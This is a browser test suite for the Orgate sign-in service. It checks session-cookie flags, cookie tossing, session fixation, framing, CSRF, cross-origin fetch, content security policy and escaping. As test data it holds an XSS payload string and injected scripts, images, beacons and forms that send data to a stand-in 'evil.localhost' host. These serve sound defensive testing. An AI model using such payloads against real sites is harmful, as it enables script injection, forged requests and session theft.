// What only a real browser decides: which cookies it takes and sends, what a content security policy stops, who may frame
// and post, what the back button shows.

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Response as Answer, Browser, BrowserContext, Page, Request } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { LOCAL_ACCOUNT } from "../../scripts/demo-seed.ts";
import { launchBrowser } from "../support/browser.ts";
import { createHttpBrowser } from "../support/cookie-jar.ts";
import { answerIdp, reachIdp, type WhoAmI } from "../support/demo.ts";
import { startTestOrgate, type TestOrgate } from "../support/harness.ts";

const HOSTILE = `<img src=x onerror=alert(1)>"'></title><script>alert(2)</script>`;

let orgate: TestOrgate;
let browser: Browser;
/** The demo project on a host of its own, which other hosts can be below and beside. */
let home: string;
/** Somebody else's site, and a host below ours; both on loopback, so that Chromium has no other reason to keep them off. */
let EVIL: string;
let below: string;
let elsewhere: Server;
/** What other people's sites answer: origin -> HTML of every page. */
let sites: Record<string, string> = {};
let contexts: BrowserContext[] = [];
/** Dialogs, violations of a page's policy and failed scripts, at whatever moment the browser reports them. */
let complaints: string[] = [];
/** Complaints that a test provokes. */
let provoked: RegExp | undefined;
const POLICY = /content security policy|frame-ancestors|x-frame-options|refused to/i;
/** Hosts that were asked for anything, but for those a test serves itself. */
let asked = new Set<string>();

beforeAll(async () => {
  [orgate, browser] = await Promise.all([startTestOrgate(), launchBrowser()]);
  home = `http://demo.localhost:${new URL(orgate.baseUrl).port}`;
  elsewhere = createServer((request, response) => {
    response.setHeader("content-type", "text/html").end(sites[`http://${request.headers.host}`] ?? "");
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  const { port } = elsewhere.address() as AddressInfo;
  EVIL = `http://evil.localhost:${port}`;
  below = `http://evil.demo.localhost:${port}`;
});
afterAll(async () => {
  await Promise.all([browser?.close(), orgate?.close()]);
  elsewhere?.closeAllConnections();
  elsewhere?.close();
});
afterEach(async () => {
  await Promise.all(contexts.map((context) => context.close()));
  const [found, hosts, expected] = [complaints, [...asked], provoked];
  contexts = [];
  complaints = [];
  provoked = undefined;
  asked = new Set();
  expect(found.filter((text) => !expected?.test(text))).toEqual([]);
  const own = [orgate.baseUrl, home, ...orgate.idps.map((idp) => idp.issuer)].map((url) => new URL(url).host);
  expect(hosts.filter((host) => !own.includes(host))).toEqual([]);
});

/** A browser of its own. `pages` are other people's sites: origin -> HTML of every page on it. */
async function newBrowser(pages: Record<string, string> = {}): Promise<Page> {
  const context = await browser.newContext();
  contexts.push(context);
  context.setDefaultTimeout(20_000);
  sites = pages;
  context.on("request", (request) => {
    const { origin, host, protocol } = new URL(request.url());
    if (protocol.startsWith("http") && !(origin in pages)) asked.add(host);
  });
  context.on("dialog", (dialog) => {
    complaints.push(`dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => undefined);
  });
  const page = await context.newPage();
  page.on("pageerror", (error) => complaints.push(error.message));
  page.on("console", (message) => {
    if (POLICY.test(message.text())) complaints.push(message.text());
  });
  return page;
}

async function signInAtIdp(page: Page): Promise<void> {
  await page.waitForURL(/\/interaction\//);
  await page.getByRole("button", { name: "Sign in" }).click();
}

async function signIn(page: Page, email: string, base = home): Promise<void> {
  await page.goto(`${base}/sso/start?email=${encodeURIComponent(email)}&return_to=/`);
  await signInAtIdp(page);
  await page.waitForURL(/\/$/);
  expect(await page.textContent("main")).toContain(email);
}

async function signInWithPassword(page: Page, base: string): Promise<void> {
  await page.goto(`${base}/login`);
  await page.getByRole("textbox", { name: /e-mail/i }).fill(LOCAL_ACCOUNT);
  await page.getByLabel("Password", { exact: true }).fill(orgate.credentials.localPassword);
  await page.getByRole("button", { name: "Sign in", exact: true }).click();
  await page.waitForURL(`${base}/`);
}

/** Whose session the browser has, as it says itself in another tab. */
async function whoIs(page: Page, base = home): Promise<string | undefined> {
  const tab = await page.context().newPage();
  const answer = await tab.goto(`${base}/sessions/whoami`);
  const session = answer?.status() === 401 ? undefined : ((await answer?.json()) as WhoAmI);
  await tab.close();
  return session?.identity.traits.email;
}

async function sessionCookie(page: Page, host = "localhost") {
  const cookies = await page.context().cookies();
  return cookies.find(({ name, domain }) => name === "__Host-orgate_session" && domain === host);
}

/** Origin of the project's connections' redirect URIs is the base URL; a login ends there. */
const base = () => orgate.baseUrl;

describe("cookies", () => {
  test("the session is out of reach of scripts and other sites, and ends with the session (T78, T90)", async () => {
    const page = await newBrowser();
    await signIn(page, "ada@acme.example", base());
    const cookie = await sessionCookie(page);
    expect(cookie).toMatchObject({ httpOnly: true, secure: true, sameSite: "Lax", path: "/", domain: "localhost" });
    const hours = ((cookie?.expires ?? 0) * 1000 - Date.now()) / 3_600_000;
    expect(hours).toBeGreaterThan(23.9);
    expect(hours).toBeLessThanOrEqual(24);
    expect(await page.evaluate("document.cookie")).toBe("");
    expect(await page.evaluate("JSON.stringify([Object.keys(localStorage), Object.keys(sessionStorage)])")).toBe("[[],[]]");
  });

  test("a host below ours cannot toss a session or CSRF cookie to us, not even a live one (T78)", async () => {
    const attacker = await newBrowser();
    await signIn(attacker, "eve@acme.example", base());
    const live = (await sessionCookie(attacker))?.value ?? "";
    const victim = await newBrowser({ [below]: "<title>evil</title>" });
    await victim.goto(`${below}/`);
    const names = [
      "__Host-orgate_session",
      "__host-orgate_session",
      "__HOST-orgate_session",
      "orgate_session",
      "__Host-orgate_csrf",
    ];
    const scopes = ["; Domain=demo.localhost; Path=/", "; Domain=demo.localhost; Path=/; Secure", "; Domain=localhost; Path=/"];
    for (const pair of [...names.map((name) => `${name}=${live}`), `=__Host-orgate_session=${live}`]) {
      for (const scope of scopes) await victim.evaluate(`document.cookie = ${JSON.stringify(pair + scope)}`);
    }
    expect(await victim.context().cookies(home)).toContainEqual(expect.objectContaining({ name: "orgate_session" }));
    expect(await whoIs(victim)).toBeUndefined();
    await victim.goto(`${home}/login`);
    expect(new URL(victim.url()).pathname).toBe("/login");
    const planted = (await victim.context().cookies(home)).filter(({ value }) => value.includes(live));
    expect(planted.filter(({ name }) => name.startsWith("__Host-"))).toEqual([]);
  });

  test("a session from before the login is not the session after it, and is dead (T77)", async () => {
    const attacker = await newBrowser();
    await signIn(attacker, "eve@acme.example", base());
    const fixed = (await sessionCookie(attacker))?.value ?? "";
    const victim = await newBrowser();
    await victim.context().addCookies([{ name: "__Host-orgate_session", value: fixed, url: base().replace("http:", "https:") }]);
    await signIn(victim, "ada@acme.example", base());
    const own = await sessionCookie(victim);
    expect(own?.value).toMatch(/^orgate_st_/);
    expect(own?.value).not.toBe(fixed);
    expect(await whoIs(victim, base())).toBe("ada@acme.example");
    const old = await fetch(`${base()}/sessions/whoami`, { headers: { "X-Session-Token": fixed } });
    expect(old.status).toBe(401);
  });
});

describe("other people's pages", () => {
  test("cannot frame any page (T83)", async () => {
    const paths = ["/login", "/registration", "/", "/error", "/docs", "/self-service/logout", "/nowhere"];
    const frames = paths.map((path) => `<iframe src="${base()}${path}"></iframe><iframe src="${home}${path}"></iframe>`).join("");
    // A page that may be framed, to show that nothing else stops the others.
    const control = `${orgate.idps[0].issuer}/`;
    const html = `<iframe src="${control}"></iframe>${frames}`;
    provoked = POLICY;
    const page = await newBrowser({ [EVIL]: html, [below]: html });
    for (const origin of [EVIL, below]) {
      await page.goto(`${origin}/`);
      const [shown, ...inner] = page.frames().filter((frame) => frame !== page.mainFrame());
      expect(await shown?.textContent("body")).toContain("demo identity provider");
      expect(inner).toHaveLength(paths.length * 2);
      const urls = () => inner.map((frame) => frame.url());
      await expect.poll(urls, { timeout: 20_000 }).toEqual(inner.map(() => "chrome-error://chromewebdata/"));
      for (const frame of inner) expect(await frame.locator("body").textContent()).not.toMatch(/Sign|account|Orgate/i);
    }
  });

  test.each([
    ["another site", () => EVIL],
    ["a host below ours, to which the browser sends our cookies", () => below],
  ])("cannot post our forms from %s (T80)", async (_, originOf) => {
    const origin = originOf();
    provoked = POLICY;
    const page = await newBrowser({ [origin]: "<title>evil</title>" });
    await page.goto(`${home}/login`);
    const action = await page.getAttribute("form", "action");
    const csrf = await page.getAttribute("input[name=csrf_token]", "value");
    const posts: [string, Record<string, string>][] = [
      [
        `${home}${action}`,
        { csrf_token: csrf ?? "", method: "password", identifier: LOCAL_ACCOUNT, password: orgate.credentials.localPassword },
      ],
      [`${home}/self-service/logout`, { token: "x" }],
    ];
    for (const [target, fields] of posts) {
      await page.goto(`${origin}/`);
      const answer = await postForm(page, target, fields);
      expect(answer.status(), target).toBe(403);
      expect(await sessionCookie(page, "demo.localhost")).toBeUndefined();
      expect(await page.textContent("main")).toContain("could not be trusted");
      const sent = (await answer.request().allHeaders())["cookie"] ?? "";
      expect(sent.includes("__Host-orgate_csrf="), "SameSite=Lax").toBe(origin !== EVIL);
    }
    expect(await whoIs(page)).toBeUndefined();

    await signInWithPassword(page, home);
    await page.goto(`${origin}/`);
    await page.evaluate(`(async () => {
      const target = ${JSON.stringify(home)} + "/self-service/logout";
      const simple = { mode: "no-cors", credentials: "include" };
      const send = (init) => fetch(target, { ...simple, ...init }).catch(() => undefined);
      await send({ method: "POST", body: new URLSearchParams({ token: "x" }) });
      await send({ method: "POST", body: "token=x" });
      await send({});
    })()`);
    expect((await postForm(page, `${home}/self-service/logout`, { token: "x" })).status()).toBe(403);
    expect(await whoIs(page)).toBe(LOCAL_ACCOUNT);
  });

  test("cannot sign anybody out, by link or by post (T80, T82)", async () => {
    const page = await newBrowser({ [EVIL]: `<img src="${base()}/self-service/logout"><title>evil</title>` });
    await signIn(page, "ada@acme.example", base());
    await page.goto(`${EVIL}/`);
    expect(await whoIs(page, base())).toBe("ada@acme.example");
    expect((await postForm(page, `${base()}/self-service/logout`, { token: "x" })).status()).toBe(403);
    expect(await whoIs(page, base())).toBe("ada@acme.example");
    await page.goto(`${base()}/self-service/logout`);
    expect(await page.textContent("main")).toContain("Sign out?");
    expect(await whoIs(page, base())).toBe("ada@acme.example");
  });

  test("cannot read or change anything with fetch, with the person's cookies or without (T81, T123)", async () => {
    provoked = POLICY;
    const page = await newBrowser({ [EVIL]: "<title>evil</title>", [below]: "<title>evil</title>" });
    await signIn(page, "ada@acme.example", base());
    for (const origin of [EVIL, below]) {
      await page.goto(`${origin}/`);
      const outcomes = await page.evaluate(`(async () => {
        const target = ${JSON.stringify(base())};
        const reads = ["/sessions/whoami", "/sessions", "/self-service/login/browser", "/projects", "/openapi.json", "/login"];
        const results = [];
        for (const credentials of ["include", "omit"]) {
          for (const path of reads) {
            const read = fetch(target + path, { credentials, headers: { Accept: "application/json" } });
            results.push(await read.then(() => path + " could be read").catch(() => "blocked"));
          }
          for (const method of ["DELETE", "PUT", "POST"]) {
            const headers = { "Content-Type": "application/json" };
            const change = fetch(target + "/sessions", { method, credentials, headers, body: "{}" });
            results.push(await change.then(() => method + " went through").catch(() => "blocked"));
          }
        }
        return results;
      })()`);
      expect(new Set(outcomes as string[])).toEqual(new Set(["blocked"]));
    }
    expect(await whoIs(page, base())).toBe("ada@acme.example");
  });

  test("a response posted to the callback from another site makes no session and spoils nothing (T79)", async () => {
    const page = await newBrowser({ [EVIL]: "<title>evil</title>" });
    const other = createHttpBrowser();
    const callback = await answerIdp(
      other,
      await reachIdp(other, `${base()}/sso/start?email=ada@acme.example`),
      "ada@acme.example",
    );
    const begun = await other.jar.getCookies(base());
    const url = base().replace("http:", "https:");
    await page.context().addCookies(begun.map(({ key, value }) => ({ name: key, value, url })));

    await page.goto(`${EVIL}/`);
    const bare = `${callback.origin}${callback.pathname}`;
    const answer = await postForm(page, bare, Object.fromEntries(callback.searchParams));
    expect(answer.status()).toBe(404);
    expect(await whoIs(page, base())).toBeUndefined();
    await page.goto(callback.href);
    expect(await whoIs(page, base())).toBe("ada@acme.example");
    expect(page.url()).not.toContain("code=");
  });
});

describe("the content security policy", () => {
  test("stops what an injected element would do (T84, T85)", async () => {
    const stopped = [
      ...["base-uri", "connect-src", "form-action", "frame-src", "img-src"],
      ...["script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem"],
    ];
    provoked = POLICY;
    const page = await newBrowser({ [EVIL]: "stolen" });
    const reached: string[] = [];
    page.on("requestfinished", (request: Request) => {
      if (request.url().startsWith(EVIL)) reached.push(request.url());
    });
    await page.goto(`${home}/login`);
    await page.evaluate(`(() => {
      const evil = ${JSON.stringify(EVIL)};
      globalThis.directives = [];
      document.addEventListener("securitypolicyviolation", (event) => directives.push(event.effectiveDirective));
      const add = (html) => {
        const holder = document.createElement("div");
        holder.innerHTML = html;
        document.body.append(holder);
        return holder;
      };
      const script = (members) => document.body.append(Object.assign(document.createElement("script"), members));
      script({ textContent: "globalThis.injected = true" });
      script({ src: evil + "/x.js" });
      add('<img src=x onerror="globalThis.injected = true">');
      add('<a href="javascript:globalThis.injected = true">x</a>').querySelector("a").click();
      add('<img src="' + evil + '/x.png"><link rel="stylesheet" href="' + evil + '/x.css"><iframe src="' + evil + '/"></iframe>');
      add('<div style="background:url(' + evil + '/y.png)"></div><style>body{display:none}</style><base href="' + evil + '/">');
      fetch(evil + "/fetch").catch(() => undefined);
      navigator.sendBeacon(evil + "/beacon", "x");
      add('<form method="post" action="' + evil + '/form"></form>').querySelector("form").submit();
    })()`);
    // A browser reports what it has stopped whenever it comes to it.
    const reported = () => page.evaluate("[...new Set(directives)].sort()");
    await expect.poll(reported, { timeout: 20_000 }).toEqual(expect.arrayContaining(stopped));
    expect(await page.evaluate("'injected' in globalThis")).toBe(false);
    expect(await page.evaluate("document.baseURI")).toContain(home);
    expect(reached).toEqual([]);
    expect(new URL(page.url()).pathname).toBe("/login");
  });

  test("lets a form post end at the provider, from the page with a script and the one without (T84)", async () => {
    for (const javaScriptEnabled of [true, false]) {
      const context = await browser.newContext({ javaScriptEnabled });
      contexts.push(context);
      const page = await context.newPage();
      await page.goto(`${base()}/login`);
      await page.getByRole("textbox", { name: /e-mail/i }).fill("ada@acme.example");
      if (!javaScriptEnabled) await page.getByRole("button", { name: "Continue" }).click();
      const [request] = await Promise.all([
        page.waitForRequest((sent) => sent.method() === "POST" && sent.url().includes("/self-service/login")),
        page.getByRole("button", { name: /with SSO/ }).click(),
      ]);
      await page.waitForURL(`${orgate.idps[0].issuer}/interaction/**`);
      expect(request.headers()["origin"]).toBe(base());
    }
  });
});

describe("hostile words (T85)", () => {
  test("in labels, names, addresses and what a provider says are shown as they are", async () => {
    const { projectId } = orgate.demo;
    const [idp] = orgate.idps;
    const made = async (path: string, body: unknown) => {
      const answer = await orgate.manage("POST", `/projects/${projectId}/${path}`, body);
      expect(answer.status).toBe(201);
      return (await answer.json()) as { id: string; redirect_uri: string };
    };
    const organization = await made("organizations", { label: HOSTILE, domains: ["hostile.example"] });
    for (const n of [1, 2]) {
      const client = { client_id: `hostile-${n}`, client_secret: "secret-of-hostile-words" };
      const { redirect_uri } = await made("connections", {
        organization_id: organization.id,
        label: `${HOSTILE} ${n}`,
        issuer_url: idp.issuer,
        ...client,
      });
      idp.registerClient({ ...client, redirect_uris: [redirect_uri] });
    }
    const rename = (name: string) => orgate.manage("PATCH", `/projects/${projectId}`, { name });
    expect((await rename(HOSTILE)).status).toBe(200);
    idp.assert((email) => ({ email, email_verified: true, name: HOSTILE }));
    try {
      const page = await newBrowser();
      await page.goto(`${base()}/login`);
      expect(await page.title()).toContain(HOSTILE);
      await page.getByRole("textbox", { name: /e-mail/i }).pressSequentially("kim@hostile.example");
      await page
        .getByRole("button", { name: /with SSO/ })
        .first()
        .waitFor();
      expect((await page.getByRole("button", { name: /with SSO/ }).allTextContents()).join()).toContain(HOSTILE);
      await page
        .getByRole("button", { name: /with SSO/ })
        .first()
        .click();
      await signInAtIdp(page);
      await page.waitForURL(`${base()}/`);
      const account = await page.textContent("main");
      expect(account?.split(HOSTILE).length).toBeGreaterThan(4);
      await page.goto(`${base()}/self-service/logout`);
      expect(await page.textContent("main")).toContain(HOSTILE);
      await page.context().clearCookies();
      for (const path of [
        `/login?login_hint=${encodeURIComponent(HOSTILE)}`,
        `/registration?login_hint=${encodeURIComponent(HOSTILE)}`,
        `/error?error=${encodeURIComponent(HOSTILE)}`,
        `/sso/start?email=${encodeURIComponent(HOSTILE)}`,
        `/self-service/methods/oidc/callback/x?state=x&error=${encodeURIComponent(HOSTILE)}&error_description=${encodeURIComponent(HOSTILE)}`,
      ]) {
        await page.goto(`${base()}${path}`);
        expect(await page.locator("img, script:not([src^='/assets/'])").count(), path).toBe(0);
      }
      await page.goto(`${base()}/login`);
      await page.getByRole("textbox", { name: /e-mail/i }).fill(HOSTILE);
      await page.getByLabel("Password", { exact: true }).fill("x");
      await page.getByRole("button", { name: "Sign in", exact: true }).click();
      await page.getByRole("alert").waitFor();
      expect(await page.getByRole("textbox", { name: /e-mail/i }).inputValue()).toBe(HOSTILE);
    } finally {
      await rename("Demo");
      const { verifiedClaims } = await import("../../scripts/demo-idp.ts");
      idp.assert(verifiedClaims);
    }
  });
});

describe("what is over stays over", () => {
  test("after signing out neither back nor forward shows the signed-in page (T87, T90)", async () => {
    const page = await newBrowser();
    await signIn(page, "ada@acme.example", base());
    await page.goto(`${base()}/error`);
    await page.goBack();
    expect(await page.textContent("main")).toContain("ada@acme.example");
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.waitForURL(/\/login/);
    for (const move of ["goBack", "goBack", "goForward", "goForward"] as const) {
      await page[move]().catch(() => null);
      expect(await page.textContent("body")).not.toContain("Hello,");
      expect(page.url()).not.toMatch(/[?&](?:code|state)=/);
    }
    expect(await page.context().cookies(base())).not.toContainEqual(expect.objectContaining({ name: "__Host-orgate_session" }));
  });

  test("after a password login the way back shows no password, and the form is spent (T18, T87)", async () => {
    const page = await newBrowser();
    await signInWithPassword(page, base());
    await page.goBack().catch(() => null);
    expect(await page.content()).not.toContain(orgate.credentials.localPassword);
    const field = page.getByLabel("Password", { exact: true });
    if ((await field.count()) > 0) expect(await field.inputValue()).toBe("");
  });

  test.each([
    ["expired", "UPDATE sessions SET expires_at = 0 WHERE identity_id = ?"],
    ["revoked", "DELETE FROM sessions WHERE identity_id = ?"],
    ["the person's no more", "UPDATE identities SET state = 'inactive' WHERE id = ?"],
  ])("a session that is %s shows no signed-in page, by reload, back or anew (T90, Dex-2026-07)", async (name, sql) => {
    const email = `${name.replaceAll(/\W+/g, "-")}@acme.example`;
    const page = await newBrowser();
    await signIn(page, email, base());
    const answer = await page.context().request.get(`${base()}/sessions/whoami`);
    const { identity } = (await answer.json()) as { identity: { id: string } };
    await page.goto(`${base()}/error`);
    await orgate.database.prepare(sql).bind(identity.id).run();
    await page.goBack();
    expect(new URL(page.url()).pathname).toBe("/login");
    await page.reload();
    await page.goto(`${base()}/`);
    expect(new URL(page.url()).pathname).toBe("/login");
    expect(await page.textContent("body")).not.toContain(email);
    expect(await whoIs(page, base())).toBeUndefined();
  });
});

/** Posts a form from the page that is open, as its script could, and waits for the page that answers. */
async function postForm(page: Page, action: string, fields: Record<string, string>): Promise<Answer> {
  const answered = page.waitForResponse(action);
  await page.evaluate(`(() => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: ${JSON.stringify(action)} });
    for (const [name, value] of Object.entries(${JSON.stringify(fields)})) {
      form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(form);
    setTimeout(() => HTMLFormElement.prototype.submit.call(form));
  })()`);
  const answer = await answered;
  await page.waitForURL(action);
  return answer;
}
